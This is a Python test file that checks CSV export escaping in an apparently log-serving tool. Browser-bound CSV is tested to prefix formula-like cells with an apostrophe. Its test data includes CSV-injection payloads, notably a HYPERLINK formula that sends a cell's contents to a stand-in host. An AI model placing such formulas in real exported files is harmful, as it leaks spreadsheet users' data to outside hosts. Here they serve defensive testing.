"""Files that the server hands out, and those of `iomine sql`."""

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from web_server import ask_server, served

from iomine.schema.registry import arrow_schema
from iomine.triggers.registry import reference_table
from iomine.views.catalog import build_catalog
from iomine.views.encode import write_csv

FORMULAS = ('=HYPERLINK("http://host.test/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
PLAIN = ("/scratch/a=b", "'quoted", "ada", "a\rb")
USERS = [*FORMULAS, *PLAIN]
UIDS = list(range(-3, len(USERS) - 3))


def _read(body: bytes) -> dict[str, list[str]]:
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    return {name: [row[name] for row in rows] for name in ("user", "uid")}


def test_programs_get_texts_as_they_are() -> None:
    """CSV for programs has every text as it is, and each row as one."""
    file = io.BytesIO()
    write_csv(pa.table({"user": USERS, "uid": UIDS}), file)
    assert {"user": USERS, "uid": [str(uid) for uid in UIDS]} == _read(file.getvalue())


def test_browsers_get_no_formulas(tmp_path: Path) -> None:
    """What a spreadsheet would work out begins with an apostrophe; other texts, and numbers below zero, are as they are."""
    schema = arrow_schema("log")
    rows = [
        dict.fromkeys(schema.names) | {"log_id": f"{uid + 3:02}", "user": user, "uid": uid}
        for user, uid in zip(USERS, UIDS, strict=True)
    ]
    part = tmp_path / "lake" / "log" / "cluster=alpha" / "night=2024-04-18" / "part.parquet"
    part.parent.mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows, schema), part)
    build_catalog(tmp_path / "iomine.duckdb", {"log": [str(part)]}, {"triggers": reference_table()}, {})
    with served(tmp_path) as address:
        got = _read(ask_server(address, "/views/logs.csv?columns=user,uid,log_id&order=log_id").body)
    assert {"user": [*(f"'{text}" for text in FORMULAS), *PLAIN], "uid": [str(uid) for uid in UIDS]} == got
